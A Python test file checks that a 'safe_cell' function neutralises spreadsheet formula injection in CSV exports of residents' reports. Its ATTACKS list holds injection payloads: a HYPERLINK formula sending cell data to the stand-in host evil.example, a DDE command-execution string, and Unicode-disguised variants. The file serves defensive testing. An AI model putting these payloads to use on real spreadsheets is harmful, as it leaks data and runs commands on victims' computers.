"""A cell is never a formula, whatever a resident wrote."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bots.registers.cells import safe_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Открыть")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1+1",
    "﹦1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_text(attack: str) -> None:
    assert safe_cell(attack).startswith("'")


@pytest.mark.parametrize("text", ["Яма на дороге", "2 = 2", "ул. Ленина, 5 - 7", "'=1", "", " "])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_unseen_controls_become_blanks_and_lines_stay() -> None:
    assert safe_cell("а\x00б\x1bв\r\nг") == "а б в\nг"


@settings(derandomize=True, max_examples=300, deadline=None)
@given(
    st.text(st.sampled_from("=+-@＝＋－＠−\t\r\n \u00a0\u200b;\"'а1"), max_size=8)
    | st.text(max_size=12)
)
def test_no_cell_of_a_table_begins_a_formula(text: str) -> None:
    table = io.StringIO(newline="")
    csv.writer(table, delimiter=";", quoting=csv.QUOTE_ALL).writerow([safe_cell(text), "рядом"])
    ((cell, beside),) = csv.reader(io.StringIO(table.getvalue(), newline=""), delimiter=";")
    assert beside == "рядом"
    seen = [
        sign for sign in cell if not sign.isspace() and unicodedata.category(sign)[0] not in "CZ"
    ]
    assert not seen or unicodedata.normalize("NFKC", seen[0])[0] not in "=+-@−"
